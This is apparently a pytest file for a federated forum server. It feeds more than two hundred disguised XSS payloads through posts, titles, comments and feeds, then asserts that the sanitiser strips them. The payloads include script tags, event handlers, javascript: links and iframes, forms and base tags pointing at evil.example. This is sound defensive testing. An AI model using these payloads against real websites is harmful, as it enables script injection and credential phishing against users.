"""Active content from other servers, in more than two hundred disguises, on every surface that shows it (case 88, JSN-9, ABU-21)."""

import html
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from itertools import cycle
from xml.etree import ElementTree

import pytest
from multidict import CIMultiDict
from yarl import URL

from folkmoot.net.mail import build_message
from tests.federation.conftest import Found
from tests.federation.network import Answer, Request
from tests.federation.peer import Members, Peer
from tests.federation.stage import Scene, set_scene
from tests.needs import shared

SEEDS = (
    "<script>alert(1)</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">l</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">l</a>', '<a href="vbscript:x">l</a>',
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<style>*{display:none}</style>", '<p style="position:fixed;top:0">x</p>',
    '<object data="https://evil.example/x.swf"></object>', "<embed src=https://evil.example/x>", '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">', '<link rel=stylesheet href=https://evil.example/x.css>',
    '<form action=https://evil.example><input name=password><button formaction="javascript:alert(1)">go</button></form>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
    '<video><source onerror="alert(1)"></video>', "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<p onclick='a()' onmouseover=\"b()\">x</p>", "<input autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>1</script>",
    "</title></textarea></style></script><script>alert(1)</script>", "[l](javascript:alert(1))", "![i](javascript:alert(1))",
    "<a href='https://ok.example' ping='https://evil.example' target=_top>l</a>", "`<script>alert(1)</script>`",
)  # fmt: skip


def _shouted(text: str) -> str:
    pairs = cycle((str.upper, str.lower))
    return re.sub(
        r"(?<=<)/?\w+|on\w+(?==)|javascript|data(?=:)", lambda m: "".join(next(pairs)(c) for c in m[0]), text
    )


MUTATIONS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _shouted,
    lambda text: text.replace(" ", "\n\t").replace("javascript:", " java\nscript:"),
    lambda text: text.replace("javascript:", "&#106;avascript&colon;").replace("data:", "&#x64;ata:"),
    lambda text: f"<p><b>{text}" + "<i>" * 8,
    html.escape,  # twice wrapped: it is text, and stays text
    lambda text: text.replace("<", "<<").replace("script", "scr<b></b>ipt"),
    lambda text: f'<blockquote><pre><code>{text}</code></pre></blockquote><a title="{text}">t</a>',
)
"""Eight ways to disguise each."""


def disguised() -> list[str]:
    found = [mutate(seed) for seed in SEEDS for mutate in MUTATIONS]
    assert len(found) > 200
    return found


class _Dangers(HTMLParser):
    """What a browser would act on, read without any help of the sanitiser's."""

    NEVER = frozenset(
        {
            "script", "style", "iframe", "frame", "object", "embed", "base", "meta", "link", "form", "input", "button", "svg", "math",
            "template", "noscript", "marquee", "body", "textarea",
        }
    )  # fmt: skip

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.NEVER:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = "".join(char for char in value or "" if char > " ").lower()
            if name.startswith("on") or name in (
                "style",
                "srcdoc",
                "formaction",
                "ping",
                "target",
                "xlink:href",
                "http-equiv",
            ):
                self.found.append(f"<{tag} {name}>")
            elif ":" in address and name in ("href", "src", "action", "data", "poster", "cite", "background"):
                scheme = address.partition(":")[0]
                if scheme not in ("http", "https", "mailto") and not re.match(r"[./?#]", address):
                    self.found.append(f"<{tag} {name}={address[:40]}>")


def dangers(markup: str) -> list[str]:
    reader = _Dangers()
    reader.feed(markup)
    reader.close()
    return reader.found


def test_the_reader_sees_what_is_dangerous() -> None:
    blind = [
        seed
        for seed in SEEDS
        if "<" in seed and seed[0] != "`" and not seed.startswith(("<![", "<!--")) and not dangers(seed)
    ]
    assert blind == []


@pytest.fixture
async def scene(servers: Found, peer: Callable[[str], Peer]) -> Scene:
    return await set_scene(servers, peer)


async def reads(scene: Scene, path: str) -> Answer:
    """A visitor asks."""
    url = URL(f"https://a.example{path}", encoded=True)
    answer = await scene.a._answer(
        Request("visitor.example", "GET", url, CIMultiDict({"Accept": "text/html"}), b"")
    )
    assert answer.status == 200, (path, answer.status)
    return answer


def texts_of(feed: bytes) -> Iterator[str]:
    """The markup in a feed, which readers unpack and show."""
    for element in ElementTree.fromstring(feed).iter():
        yield from (value for value in (element.text, *element.attrib.values()) if value)


async def arrive(scene: Scene) -> list[str]:
    """Every disguise in a post, a title, or a comment, half of them as HTML and half as Markdown; the posts' addresses."""
    group = scene.gardening.ap_id
    posts: list[str] = []
    scene.carol.document |= {
        "name": "<script>alert(1)</script>", "summary": "".join(SEEDS), "icon": {"type": "Image", "url": "javascript:alert(1)"},
    }  # fmt: skip
    for number, text in enumerate(disguised()):
        said: Members = {"content": text, "source": None}
        if number % 2:
            said = {"content": "x", "source": {"content": text, "mediaType": "text/markdown"}}
        if number % 24 == 0:
            page = scene.there.page(
                scene.carol, group, f"Title {number} {text}"[:190], summary=text, sensitive=True, **said
            )
            page["attachment"] = [
                {"type": "Image", "url": "https://pics.example/a.png", "name": text},
                {"type": "Link", "href": "javascript:alert(1)"},
            ]
            posts.append(page["id"])
        else:
            page = scene.there.note(scene.carol, posts[-1], group, **said, name=text)
        await scene.there.send(scene.a, scene.there.in_community("Create", scene.carol, page, group))
    await scene.a.settle()
    assert set(await scene.a.rows("SELECT reason FROM received WHERE state <> 'accepted'")) <= {
        ("empty_comment",)
    }
    return posts


async def test_two_hundred_disguises_are_harmless_on_every_surface__case_88__JSN_9__ABU_21(
    scene: Scene,
) -> None:
    plain = await scene.posted("Nothing to see")
    harmless = dangers((await reads(scene, "/post/1")).body.decode())
    posts = await arrive(scene)
    assert plain["id"] and len(posts) >= 12
    assert await scene.a.value("SELECT count(*) FROM comment") > 200
    numbers = [row[0] for row in await scene.a.rows("SELECT id FROM post ORDER BY id")]
    carol = "/u/carol@there.example"
    pages = [*(f"/post/{number}" for number in numbers), "/", "/c/gardening", carol, f"{carol}?view=comments"]
    for path in pages:
        extra = [
            danger for danger in dangers((await reads(scene, path)).body.decode()) if danger not in harmless
        ]
        assert extra == [], path
    for path in ("/all", "/c/gardening", carol, *(f"/post/{number}" for number in numbers)):
        for form in ("atom", "xml"):
            answer = await reads(scene, f"/feeds{path}.{form}")
            found = [danger for text in texts_of(answer.body) for danger in dangers(text)]
            assert found == [], (path, form)
    stored = await scene.a.rows(
        "SELECT content_html FROM comment UNION ALL SELECT body_html FROM post WHERE body_html IS NOT NULL"
    )
    assert [danger for (markup,) in stored for danger in dangers(markup)] == []


async def test_what_apps_and_mails_get_of_html_is_markdown_without_tags__case_88(scene: Scene) -> None:
    page = await scene.posted()
    group = scene.gardening.ap_id
    for text in disguised():
        note = scene.there.note(scene.carol, page["id"], group, content=text, source=None)
        await scene.there.send(scene.a, scene.there.in_community("Create", scene.carol, note, group))
    await scene.a.settle()
    seen = set()
    for number in range(1, 6):
        answer = await reads(scene, f"/api/v3/comment/list?post_id=1&limit=50&page={number}&sort=Old")
        for view in json.loads(answer.body)["comments"]:
            content = view["comment"]["content"]
            seen.add(view["comment"]["id"])
            outside_code = re.sub(r"(`+).*?\1", "", content, flags=re.DOTALL)
            assert not re.search(r"(?<!\\)<[a-zA-Z/!?]", re.sub(r"<https?://[^<>]*>", "", outside_code)), (
                content
            )
            assert not re.search(
                r"(?<!\\)\]\(\s*(?:javascript|data|vbscript):", outside_code, re.IGNORECASE
            ), content
    assert len(seen) > 150, "of some nothing is left, and they are no comments"
    mail = build_message(
        sender="a@a.example", sender_name="A", to="b@b.example", subject="S", text="<script>1</script>"
    )
    assert mail.get_content_type() == "text/plain", "and mails are nothing but text"


async def test_the_recorded_attack_is_harmless__case_88(scene: Scene) -> None:
    page = await scene.posted()
    attack = json.loads(shared("federation/fixtures/_attacks/adversarial/xss-content.json").read_bytes())
    note = scene.there.note(scene.carol, page["id"], scene.gardening.ap_id)
    note |= {name: attack[name] for name in ("content", "name", "attachment")} | {"source": None}
    before = dangers((await reads(scene, "/post/1")).body.decode())
    assert (
        await scene.tells(scene.there.in_community("Create", scene.carol, note, scene.gardening.ap_id))
        == "accepted"
    )
    found = dangers((await reads(scene, "/post/1")).body.decode())
    assert set(found) <= set(before)
